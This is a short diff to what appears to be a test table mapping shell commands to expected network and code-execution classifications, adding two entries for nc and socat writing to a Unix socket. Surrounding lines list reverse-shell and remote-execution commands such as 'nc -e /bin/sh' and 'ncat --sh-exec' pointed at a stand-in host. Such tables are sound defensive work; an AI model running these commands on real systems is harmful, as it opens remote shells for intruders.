@@ -34,6 +34,8 @@ TABLE = {
     "rsync * x.org:": None,
     "nc x.org 80": [net("connect", scheme="tcp", port="80")],
     "nc -e /bin/sh x.org 80": [net("connect", scheme="tcp", port="80"), "code language=shell source=inline"],
+    "nc -U /run/x.sock": ["write /run/x.sock how=edit"],
+    "socat - UNIX-CONNECT:/run/x.sock": ["write /run/x.sock how=edit"],
     "nc -lvp 4444": ["network direction=connect host=localhost reach=local scheme=tcp"],
     "ncat --sh-exec id x.org 80": [net("connect", scheme="tcp", port="80"), "code language=shell source=inline"],
     "socat - TCP:x.org:80": [net("connect", scheme="tcp", port="80")],
